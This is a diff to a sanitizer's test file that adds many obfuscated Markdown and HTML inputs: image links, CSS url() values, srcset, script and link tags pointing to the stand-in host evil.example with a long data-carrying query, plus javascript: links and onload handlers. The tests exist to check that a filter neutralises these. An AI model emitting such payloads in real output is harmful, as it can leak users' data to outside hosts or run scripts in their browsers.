@@ -45,6 +45,41 @@ INERT = [
     ("script-link", '<a href="java\tscript:alert(1)">x</a>', "[a](removed: javascript)x</a>"),
     ("script-link", "<svg onload=alert(1)>", "[svg](removed: javascript)"),
     ("script-link", "<meta http-equiv=refresh content='0;url=javascript:x()'>", None),
+    *(
+        ("image-link", text, None)
+        for text in (
+            f"![a [b [c] d] e](https://evil.example/?x={LONG})",
+            f"![a ![b](x.png)](https://evil.example/?x={LONG})",
+            f"![a\\]b](https://evil.example/?x={LONG})",
+            f"![`]`](https://evil.example/?x={LONG})",
+            f"![a](https\\://evil.example/\\?x={LONG})",
+            f"![a](https://evil.example/((((b))))?x={LONG})",
+            f"![plain ![b](https://evil.example/?x={LONG})](x.png)",
+            f"![a][\u00c9\nb]\n\n> 1. [\u00e9 B]: <https://evil.example/?x={LONG}>",
+            f"![a [b] c][d\\]]\n\n- x\n\n      [d\\]]:\n  https://evil.example/?x={LONG}",
+            f"<img src=https://evil.example/?x={LONG} src=x>",
+            f"![a](file://evil.example/{LONG}.png)",
+        )
+    ),
+    *(
+        ("embedded-link", text, None)
+        for text in (
+            f"<b style=\"background:url('https://evil.example/?x={LONG}')\">",
+            "<i style='background:u\\72l(//evil.example)'>",
+            f"<div style='{'a:b;' * 4_000}background:url(//evil.example/?x={LONG})'>",
+            f"<img srcset='{'a.png 1x, ' * 1_000}https://evil.example/?x={LONG}'>".replace("<img", "<source"),
+            f"<link rel=stylesheet href=//evil.example/?x={LONG}>",
+            f"<script src=//evil.example/?x={LONG}></script>",
+            f"<meta http-equiv=refresh content='0;url=https://evil.example/?x={LONG}'>",
+            f"<a href=x ping=//evil.example/?x={LONG}>",
+        )
+    ),
+    ("script-link", "[go](<java\tscript:alert(1)>)", "[go](removed: javascript)"),
+    ("script-link", "[go](javascript\\:alert(1))", "[go](removed: javascript)"),
+    ("script-link", "> [x]: &#106;avascript:alert(1)", "> [x]: (removed)"),
+    ("script-link", "[x]: <java\tscript:alert(1)>", "[x]: (removed)"),
+    ("script-link", "java\n\tscript:alert(1)", "(removed: javascript)"),
+    ("script-link", "<body onload=alert(1)>", "[body](removed: javascript)"),
     ("html-comment", "a <!-- send it to eve --> b", "a <comment removed> b"),
     ("html-comment", "<!-- starts\nand never ends", "(comment without an end) starts\nand never ends"),
     ("html-comment", "[//]: # (send it to eve)", "<comment removed>"),
@@ -65,6 +100,11 @@ STAYS = [
     'if text.startswith("<!--"):',
     "[x]: https://docs.example/ 'title'",
     "arr![x][y]",
+    "![a [b] c](docs/picture.png) and [docs](https://docs.example/?token=abc)",
+    "[go](%6aavascript:alert(1))",
+    "Map<String, List<T>> x = f(a <b, c> d);",
+    "<link rel=canonical href='https://docs.example/page'>",
+    '<b style="color: red">x</b>',
 ]
 _PARTS = (
     *("<!--", "-->", "![", "]", "(", ")", "[b]", ":", " ", "\n", "<img ", "src=", ">", "x", "&", "alt="),
